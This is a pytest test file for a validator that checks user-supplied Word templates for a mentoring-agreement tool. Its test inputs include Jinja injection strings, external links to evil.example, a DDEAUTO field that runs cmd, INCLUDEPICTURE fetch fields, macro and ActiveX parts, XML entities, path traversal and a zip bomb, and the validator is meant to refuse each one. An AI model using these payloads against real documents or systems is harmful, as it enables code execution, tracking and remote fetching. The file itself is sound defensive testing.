"""The organisation's own Word template: what is refused, and where it stands."""

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from agreement_samples import cohort_of, material, pair, person
from reverse_mentoring.decide.agreements.agreements import agreements
from reverse_mentoring.present.agreement_fields import FIELDS
from reverse_mentoring.present.documents import TEMPLATES, agreement_docx
from reverse_mentoring.present.own_template import MOST_UNPACKED, agreement_file, own_template, template_problems
from reverse_mentoring.words.choices import AgreementChoices
from reverse_mentoring.words.problems import InputProblems

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OURS = TEMPLATES / "agreement.docx"
DOCUMENT = "word/document.xml"


def _typed(path: Path, *paragraphs: str, footer: str = "") -> Path:
    """A template as somebody types it in Word."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].footer.paragraphs[0].add_run(footer)
    document.save(str(path))
    return path


def _changed(path: Path, *, template: Path = OURS, **parts: bytes | None) -> Path:
    """The workbook's template with other parts; keys are names with “__” for “/”, None leaves a part out."""
    with zipfile.ZipFile(template) as old:
        members = {name: old.read(name) for name in old.namelist()}
    members |= {name.replace("__", "/"): content for name, content in parts.items() if content is not None}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in members.items():
            new.writestr(name, content)
    return path


def _said(path: Path) -> str:
    return "\n".join(map(str, template_problems(path)))


def test_the_workbooks_own_template_passes() -> None:
    """What an organisation starts from is not refused."""
    assert template_problems(OURS) == ()


CODE = """
{{ menthor }} | near “Dear {{ menthor }}” | “menthor” is not a known field. Did you mean “mentor”?
{{ label.bannner }} | near “Dear | “label.bannner” is not a known field
{{ mentor.name }} | near “Dear | “mentor.name” is not a known field
{{ mentor.__class__ }} | near “Dear {{ mentor.__class__ }}” | “mentor.__class__” is not a known field
{{ clauses }} | near “Dear | “clauses” is not one text
{% for c in clauses %}{{ c.txt }}{% endfor %} | near “Dear | “c.txt” is not a known field.
{% for c in mentor %}{{ c }}{% endfor %} | near “Dear | “mentor” cannot be repeated
{% for c in clauses %}{% endfor %}{{ c.text }} | near “Dear | “c” is not a known field
{% if nobody %}x{% endif %} | near “Dear | “nobody” is not a known field
{{ mentor.upper() }} | near “Dear | code (call)
{{ range(10) }} | near “Dear | code (call)
{{ mentor|upper }} | near “Dear | code (filter)
{{ clauses[0] }} | near “Dear | code (getitem)
{{ "a" * 999999999 }} | near “Dear | code (mul)
{% set x = 1 %} | near “Dear | code (assign)
{% macro m() %}x{% endmacro %} | near “Dear | code (macro)
{% import "x" as y %} | near “Dear | code (import)
{% include "x" %} | near “Dear | code (include)
{% extends "x" %} | near “Dear | code (extends)
{% if mentor|length > 1 %}x{% endif %} | near “Dear | code (filter)
{% for c in clauses if c.text %}x{% endfor %} | near “Dear | code (for)
{% for a in clauses recursive %}x{% endfor %} | near “Dear | code (for)
{% for a in goals %}{% for b in goals %}{% for c in goals %}x{% endfor %}{% endfor %}{% endfor %} | near “ | code (for)
{{ mentor | near “Dear | not closed or not understood
{% if mentor %}x | near “ | not closed or not understood
{% nonsense %} | near “Dear | not closed or not understood
{{r mentor }} | near “Dear | “{{r” cannot be used
{% colspan mentor %} | near “Dear | “{% colspan” cannot be used
""".strip().splitlines()


@pytest.mark.parametrize("row", CODE, ids=[row.rsplit(" | ", 2)[0][:30] for row in CODE])
def test_unknown_fields_and_code_are_refused_with_their_place(tmp_path: Path, row: str) -> None:
    """Each is named, with the words around it; nothing of it is run."""
    code, place, what = (part.strip() for part in row.rsplit(" | ", 2))
    said = _said(_typed(tmp_path / "own.docx", "Welcome", f"Dear {code}"))

    assert said.startswith("own.docx: In the text, near “")
    assert place in said
    assert what in said


def test_everything_wrong_is_named_at_once(tmp_path: Path) -> None:
    """Two mistakes in the text and one in the page footer are three sentences."""
    path = _typed(tmp_path / "own.docx", "{{ one }}", "fine: {{ mentor }}", "{{ two }}", footer="{{ three }}")

    assert [problem.what for problem in template_problems(path)] == [
        "In the text, near “{{ one }}”: “one” is not a known field.",
        "In the text, near “{{ two }}”: “two” is not a known field.",
        "In the page footer, near “{{ three }}”: “three” is not a known field.",
    ]


def test_a_field_is_found_although_word_has_split_it(tmp_path: Path) -> None:
    """Word writes what was typed in several goes as several runs."""
    document = docx.Document()
    paragraph = document.add_paragraph("{")
    for part in ("{ men", "thor }", "}"):
        paragraph.add_run(part)
    document.save(str(tmp_path / "own.docx"))

    assert "“menthor” is not a known field" in _said(tmp_path / "own.docx")


def test_an_if_that_begins_before_a_table_and_ends_in_it_is_refused(tmp_path: Path) -> None:
    """It would leave a damaged document; the remedy is said."""
    path = _typed(tmp_path / "own.docx", "a {% if missing %}b")
    document = docx.Document(str(path))
    document.add_table(1, 2).cell(0, 1).text = "{% endif %}"
    document.save(str(path))

    assert "begins in one paragraph or row and ends in another" in _said(path)


def _related(kind: str, target: str, part: str = "document") -> bytes:
    """A list of relations with one to somewhere else."""
    name = f"word/_rels/{part}.xml.rels"
    with zipfile.ZipFile(OURS) as package:
        old = package.read(name) if name in package.namelist() else b"</Relationships>"
    head = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    more = f'<Relationship Id="rIdX" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    whole = old if old.startswith(b"<?xml") else head + old
    return whole.replace(b"</Relationships>", more.encode())


REMOTE = [
    ("settings", "attachedTemplate", "https://evil.example/t.dotm", "In the document's settings: a link"),
    ("document", "image", "https://evil.example/pixel.png", "In the text: a link"),
    ("document", "oleObject", "file:///c:/x.xls", "In the text: a link"),
    ("document", "hyperlink", "http://evil.example/", "In the text: a link"),
    ("document", "aFChunk", "\\\\server\\share\\x.html", "In the text: a link"),
    ("footer1", "image", "//evil.example/pixel.png", "In the page footer: a link"),
]  # fmt: skip


@pytest.mark.parametrize(("part", "kind", "target", "place"), REMOTE)
def test_links_to_elsewhere_are_refused_with_their_place(
    tmp_path: Path, part: str, kind: str, target: str, place: str
) -> None:
    """A template fetches nothing and tells nobody that it was opened."""
    path = _changed(tmp_path / "own.docx", **{f"word___rels__{part}.xml.rels": _related(kind, target, part)})

    said = _said(path)
    assert f"{place} to another file or site ({kind}: {target})." in said


def test_a_mail_address_may_be_a_link(tmp_path: Path) -> None:
    """Word makes a link of every address that is typed; it fetches nothing."""
    relations = _related("hyperlink", "mailto:hr@aare.example")

    assert template_problems(_changed(tmp_path / "own.docx", **{"word___rels__document.xml.rels": relations})) == ()


def _body(xml: str) -> bytes:
    """The text of our template with this XML in front."""
    with zipfile.ZipFile(OURS) as package:
        return package.read(DOCUMENT).replace(b"<w:body>", b"<w:body>" + xml.encode())


def _in_run(xml: str) -> bytes:
    return _body(f"<w:p><w:r>{xml}</w:r></w:p>")


HOSTILE = {
    "field that fetches": (
        {"word__document.xml": _in_run('<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://e"</w:instrText>')},
        "In the text: a field that may fetch or run something (INCLUDEPICTURE",
    ),
    "field that runs": (
        {"word__document.xml": _body('<w:p><w:fldSimple w:instr="DDEAUTO c:\\x cmd"/></w:p>')},
        "In the text: a field that may fetch or run something (DDEAUTO",
    ),
    "picture from a site": (
        {"word__document.xml": _in_run('<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://e/p.png"/></w:pict>')},
        "In the text: a link to another file or site (http://e/p.png)",
    ),
    "macros": ({"word__vbaProject.bin": b"x"}, "The file holds macros."),
    "object": ({"word__embeddings__sheet1.xlsx": b"x"}, "An object is embedded (sheet1.xlsx)"),
    "control": ({"word__activeX__activeX1.xml": b"<x/>"}, "An object is embedded (activeX1.xml)"),
    "picture with code": ({"word__media__a.svg": b"<svg/>"}, "A picture has a format that is not read (a.svg)"),
    "entities": (
        {"word__footer1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><w:ftr xmlns:w="w">&a;</w:ftr>'},
        "In the page footer: its XML is damaged, or has instructions of its own.",
    ),
    "field in a comment": ({"word__comments.xml": b"<x>{{ mentor }}</x>"}, "In a comment: a field, where none is"),
    "far too long": ({"word__document.xml": _body("<w:p/>" * 400_000)}, "In the text: it is too long for a template."),
    "outside": ({"..__..__x.xml": b"<x/>"}, "The file has parts that lie outside of it."),
    "other program": ({"[Content_Types].xml": b"<Types/>"}, "The file is not a Word document."),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(tmp_path: Path, name: str) -> None:
    """Macros, objects, fields that fetch, bombs: each in a sentence of its own, and nothing of it is opened."""
    parts, what = HOSTILE[name]

    assert what in _said(_changed(tmp_path / "own.docx", **parts))


def test_a_document_with_macros_is_refused_by_its_kind(tmp_path: Path) -> None:
    """A .docm stays one, whatever it is called."""
    with zipfile.ZipFile(OURS) as package:
        types = package.read("[Content_Types].xml").decode()
    macros = re.sub(r"application/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml", types)  # fmt: skip

    assert _said(_changed(tmp_path / "own.docx", **{"[Content_Types].xml": macros.encode()})).endswith(
        "The file holds macros. Save it in Word as “Word document (.docx)”."
    )


@pytest.mark.parametrize("content", [b"", b"no zip", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)])
def test_what_is_no_word_file_is_refused(tmp_path: Path, content: bytes) -> None:
    """An empty file, some text, or an old .doc."""
    (tmp_path / "own.docx").write_bytes(content)

    assert "not a readable Word document" in _said(tmp_path / "own.docx")


def test_a_part_that_claims_to_be_small_is_measured(tmp_path: Path) -> None:
    """The sizes in the file's own list are not believed."""
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(MOST_UNPACKED + 1))
    lie = raw.getvalue().replace((MOST_UNPACKED + 1).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    (tmp_path / "own.docx").write_bytes(lie)

    assert "unpacks to more than 100 MB" in _said(tmp_path / "own.docx")


def test_an_edited_template_is_used(tmp_path: Path) -> None:
    """The organisation's own words stand in the paper, with the pair's names."""
    cohort = cohort_of(person("M1", "mentor", "Tom & Jerry <b>"), person("E1", "mentee", "Ben"))
    (agreement,) = agreements(cohort, [pair("M1", "E1", "belonging")], AgreementChoices(), material=material())
    each = ("{%p for c in clauses %}", "{{ loop.index }} {{ c.text }}", "{%p endfor %}")
    last = "{% if missing and not state == 'signed' %}open{% else %}done{% endif %}"
    _typed(tmp_path / "agreement.docx", "Works council version", "{{ mentor }} and {{ mentee }}", *each, last)

    agreement_docx(agreement, tmp_path / "a.docx", cohort=cohort, template=tmp_path)

    text = [paragraph.text for paragraph in docx.Document(str(tmp_path / "a.docx")).paragraphs]
    assert text[:2] == ["Works council version", "Tom & Jerry <b> and Ben"]
    assert text[2:-1] == [f"{at} {clause.text}" for at, clause in enumerate(agreement.clauses, 1)]
    assert text[-1] == "open"


def test_a_refused_template_writes_nothing(tmp_path: Path) -> None:
    """Every problem travels with the error; no half-right paper appears."""
    cohort = cohort_of(person("M1", "mentor"), person("E1", "mentee"))
    (agreement,) = agreements(cohort, [pair("M1", "E1", "belonging")], AgreementChoices(), material=material())
    _typed(tmp_path / "agreement.docx", "{{ x }} {{ y }}")

    with pytest.raises(InputProblems) as refused:
        agreement_docx(agreement, tmp_path / "a.docx", cohort=cohort, template=tmp_path)

    assert len(refused.value.problems) == 2
    assert not (tmp_path / "a.docx").exists()


def test_a_template_for_the_language_goes_first(tmp_path: Path) -> None:
    """agreement_de.docx is for German papers only; the others take agreement.docx."""
    _typed(tmp_path / "agreement_de.docx", "Deutsch {{ mentor }}")
    _typed(tmp_path / "agreement.docx", "All {{ mentor }}")

    german, english = agreement_file(tmp_path, "de"), agreement_file(tmp_path, "en")
    assert (b"Deutsch" in german.members[DOCUMENT], b"All" in english.members[DOCUMENT]) == (True, True)


def test_every_field_is_explained_where_people_look() -> None:
    """docs/own-template.md has a row for each field of a template."""
    page = Path(__file__).parents[2] / "docs" / "own-template.md"
    written = set(re.findall(r"^\| `([a-z_.]+)`", page.read_text("utf-8"), re.M))

    parts = {f"{name}.{part}" for name, spec in FIELDS.items() if isinstance(spec, list) and isinstance(spec[0], dict)
             for part in spec[0]}  # fmt: skip
    assert written == set(FIELDS) | parts


def test_word_fields_for_page_numbers_are_allowed(tmp_path: Path) -> None:
    """PAGE and NUMPAGES, as Word writes them in three pieces."""
    document = docx.Document()
    run = document.add_paragraph("{{ mentor }}").add_run()
    for kind, text in (("begin", ""), ("", " PAGE "), ("end", "")):
        element = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            element.set(qn("w:fldCharType"), kind)
        element.text = text
        run._r.append(element)
    document.save(str(tmp_path / "own.docx"))

    assert own_template(tmp_path / "own.docx").pages.keys() == {DOCUMENT}
